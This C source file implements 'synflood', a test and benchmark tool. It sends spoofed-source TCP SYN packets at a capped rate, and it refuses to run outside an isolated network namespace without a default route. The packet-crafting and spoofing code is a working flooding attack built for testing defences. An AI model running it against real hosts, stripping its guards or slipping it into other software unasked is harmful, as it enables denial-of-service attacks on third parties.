/* SPDX-License-Identifier: ISC */
/*
 * synflood: sends TCP SYNs with spoofed source addresses to DST:PORT at
 * RATE a second for SECONDS, COUNT at most, then prints what it sent.
 * For the attack tests and bench/attacks only: it refuses to run in the
 * machine's own network namespace (where spoofed packets could leave it),
 * and every bound is capped.
 *
 *   synflood DST PORT RATE SECONDS COUNT [SRC_NET]
 *
 * Sources are random in SRC_NET/16 (default 198.18.0.0, the benchmark
 * range), random ports and sequence numbers, an MSS option like a real
 * client's. Needs root (a raw socket).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_RATE 200000UL
#define MAX_SECONDS 120UL
#define MAX_COUNT 10000000UL
#define BATCH 64

struct pkt {
    uint8_t ip[20];
    uint8_t tcp[24];
};

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint32_t rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng >> 16);
}

static uint16_t csum(const void *data, size_t n, uint32_t sum)
{
    const uint8_t *b = data;

    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)b[i] << 8 | b[i + 1];
    if (n & 1)
        sum += (uint32_t)b[n - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, (uint16_t)v); }

/*
 * Spoofing is for a namespace of the test's own, never the machine's:
 * refused in init's namespace (where we can tell) and wherever a default
 * route could carry packets (or the answers to them) out.
 */
static int in_own_netns(void)
{
    struct stat self, init;
    char line[256];
    FILE *f;
    int routed = 0;

    if (stat("/proc/self/ns/net", &self) != 0)
        return 0;
    if (stat("/proc/1/ns/net", &init) == 0 && self.st_ino == init.st_ino &&
        self.st_dev == init.st_dev)
        return 0;
    f = fopen("/proc/net/route", "r");
    if (f == NULL)
        return 0;
    while (fgets(line, sizeof(line), f) != NULL) {
        char dev[64];
        unsigned dest;
        if (sscanf(line, "%63s %x", dev, &dest) == 2 && dest == 0)
            routed = 1;
    }
    fclose(f);
    return !routed;
}

static unsigned long arg(const char *s, unsigned long max, const char *what)
{
    char *end;
    unsigned long v = strtoul(s, &end, 10);

    if (*s == '\0' || *end != '\0' || v < 1 || v > max) {
        fprintf(stderr, "synflood: %s must be 1 to %lu\n", what, max);
        exit(2);
    }
    return v;
}

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    struct sockaddr_in dst = { .sin_family = AF_INET };
    struct in_addr src_net = { 0 };
    int one = 1, fd;

    if (argc != 6 && argc != 7) {
        fprintf(stderr, "usage: synflood DST PORT RATE SECONDS COUNT [SRC_NET]\n");
        return 2;
    }
    if (!in_own_netns()) {
        fprintf(stderr, "synflood: refusing: not in a namespace of its own without a default route\n");
        return 2;
    }
    if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1) {
        fprintf(stderr, "synflood: bad address %s\n", argv[1]);
        return 2;
    }
    uint16_t port = (uint16_t)arg(argv[2], 65535, "PORT");
    unsigned long rate = arg(argv[3], MAX_RATE, "RATE");
    unsigned long seconds = arg(argv[4], MAX_SECONDS, "SECONDS");
    unsigned long count = arg(argv[5], MAX_COUNT, "COUNT");
    if (inet_pton(AF_INET, argc == 7 ? argv[6] : "198.18.0.0", &src_net) != 1) {
        fprintf(stderr, "synflood: bad source network\n");
        return 2;
    }
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) != 0) {
        perror("synflood: raw socket");
        return 1;
    }
    rng ^= (uint64_t)getpid() << 32 ^ (uint64_t)(now() * 1e6);

    unsigned long sent = 0, failed = 0;
    double start = now(), end = start + (double)seconds;
    uint32_t net = ntohl(src_net.s_addr) & 0xffff0000u;
    while (sent + failed < count) {
        double t = now();
        if (t >= end)
            break;
        /* Paced: as many as the rate allows by now, a batch at most. */
        double due = (t - start) * (double)rate - (double)(sent + failed);
        if (due < 1) {
            struct timespec ns = { 0, 50000 };
            nanosleep(&ns, NULL);
            continue;
        }
        for (int i = 0; i < BATCH && i < due && sent + failed < count; i++) {
            struct pkt p;
            uint32_t src = net | (rnd() & 0xffff);
            uint8_t pseudo[12];

            memset(&p, 0, sizeof(p));
            p.ip[0] = 0x45;
            put16(p.ip + 2, sizeof(p));
            put16(p.ip + 4, (uint16_t)rnd());
            p.ip[8] = 64;
            p.ip[9] = IPPROTO_TCP;
            put32(p.ip + 12, src);
            memcpy(p.ip + 16, &dst.sin_addr, 4);
            put16(p.ip + 10, csum(p.ip, 20, 0));
            put16(p.tcp, (uint16_t)(1024 + rnd() % 60000));
            put16(p.tcp + 2, port);
            put32(p.tcp + 4, rnd());
            p.tcp[12] = 6 << 4;         /* 24 bytes: the MSS option */
            p.tcp[13] = 0x02;           /* SYN */
            put16(p.tcp + 14, 64240);
            p.tcp[20] = 2;
            p.tcp[21] = 4;
            put16(p.tcp + 22, 1460);
            memcpy(pseudo, p.ip + 12, 8);
            pseudo[8] = 0;
            pseudo[9] = IPPROTO_TCP;
            put16(pseudo + 10, sizeof(p.tcp));
            uint32_t sum = 0;
            for (int k = 0; k < 12; k += 2)
                sum += (uint32_t)pseudo[k] << 8 | pseudo[k + 1];
            put16(p.tcp + 16, csum(p.tcp, sizeof(p.tcp), sum));
            if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&dst, sizeof(dst)) ==
                sizeof(p))
                sent++;
            else
                failed++;       /* ENOBUFS: the queue is full; counted */
        }
    }
    double took = now() - start;
    printf("synflood: %lu SYNs sent (%lu failed) in %.1f s, %.0f/s\n", sent, failed, took,
           took > 0 ? (double)sent / took : 0.0);
    return 0;
}
